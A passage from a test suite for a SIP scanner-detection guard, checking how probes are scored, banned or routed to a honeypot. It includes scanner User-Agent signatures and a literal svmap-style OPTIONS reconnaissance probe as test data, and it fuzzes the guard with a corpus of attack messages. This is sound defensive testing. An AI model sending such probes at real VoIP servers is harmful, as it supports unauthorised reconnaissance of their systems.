    assert.deepEqual(check(g, request({ From: '<sip:1@1.1.1.1>;tag=1' }), ATTACKER, 11_000), { action: 'pass' });
    // Another source is scored apart.
    assert.deepEqual(check(g, request({ 'Record-Route': '<sip:127.4.0.1;lr>' }, { method: 'INVITE' }), PHONE, 11_500), {
      action: 'pass',
    });
    // A third: 12 >= 10.
    const v = check(g, request({ 'Record-Route': '<sip:127.4.0.1;lr>' }, { method: 'INVITE' }), ATTACKER, 12_000);
    assertVerdict(v, 'ban', 'score');
    assert.ok(v.action === 'ban');
    assert.equal(v.reason, 'scanner: score');
    assert.match(v.detail ?? '', /score 12 >= 10/);
    // Banned sources start over.
    assert.deepEqual(check(g, ua, ATTACKER, 12_100), { action: 'pass' });
  });

  it('score: points expire with the window', () => {
    const yaml = [
      'guards:',
      '  scanner:',
      '    score_threshold: 10',
      '    score_window: 1m',
      '    signals:',
      '      user_agent: {action: score, points: 6}',
      '      ip_literal_host: {action: score, points: 6}',
    ].join('\n');
    const g = guardWith(yaml);
    assert.equal(check(g, options({ userAgent: 'friendly-scanner' }), ATTACKER, 0).action, 'pass');
    // 60 s later the first 6 points are gone: 6 < 10.
    assert.equal(check(g, request({ From: '<sip:1@1.1.1.1>;tag=1' }), ATTACKER, 60_000).action, 'pass');
    assert.equal(check(g, options({ userAgent: 'friendly-scanner' }), ATTACKER, 60_001).action, 'ban');
  });

  it('score: the table of sources is bounded, oldest forgotten first', () => {
    const g = guardWith('', 100);
    for (let i = 0; i < 1000; i++) {
      const source: Source = { transport: 'udp', address: `198.51.${i >> 8}.${i & 255}`, port: 5060, family: 4 };
      check(g, request({ From: '<sip:1@1.1.1.1>;tag=1' }), source, i);
    }
    assert.equal(g.scoredSources, 100);
  });
});

describe('scanner guard: robustness', () => {
  it('never throws on mutated messages', () => {
    const corpus = loadCorpus().map((e) => e.data);
    const attacks = readdirSync(ATTACKS)
      .filter((f) => f.endsWith('.sip'))
      .map((f) => readFileSync(join(ATTACKS, f)));
    const seeds = [...corpus, ...EXTRA_SEEDS, ...attacks, invite(), register(), options(), bye(), ok200()];
    const g = guardWith(
      'guards:\n  scanner:\n    signals: {ip_literal_host: drop, record_route_spoofing: reply, sdp_session_name: honeypot}',
    );
    const seed = fuzzSeed();
    let checked = 0;
    for (const { i, msg } of mutatedMessages(seeds, 3000, seed)) {
      const v = g.checkMessage(msg, ATTACKER, i);
      checked++;
      assert.ok(['pass', 'drop', 'reply', 'ban', 'honeypot'].includes(v.action), `case ${i} of seed ${seed}`);
      if (v.action === 'ban') assert.match(v.reason, /^scanner: [a-z-]+$/);
    }
    assert.ok(checked > 1000, `enough messages reached the guard (${checked})`);
  });

  it('a literal svmap-like probe with a changed User-Agent and an IP-literal From only scores', () => {
    const data = raw([
      'OPTIONS sip:100@203.0.113.10 SIP/2.0',
      'Via: SIP/2.0/UDP 192.168.1.9:5060;branch=zqwehwebK-0523432245;rport',
      'Content-Length: 0',
      'From: "sipsscuser"<sip:100@1.1.1.1>; tag=3563323665',
      'Accept: application/sdp',
      'User-Agent: sundayddr',
      'To: "sipssc"<sip:100@1.1.1.1>',
      'Contact: sip:100@1.1.1.1:5060',
      'CSeq: 1 OPTIONS',
      'Call-ID: 86713452',
      'Max-Forwards: 70',
    ]);
    assertBan(check(guardWith(), data), 'user-agent');
    const noUa = guardWith('guards:\n  scanner:\n    user_agents: [nothing-matches-this]');
    assert.deepEqual(check(noUa, data), { action: 'pass' });
    assert.equal(noUa.scoredSources, 1, 'the IP-literal From scored');
  });
});
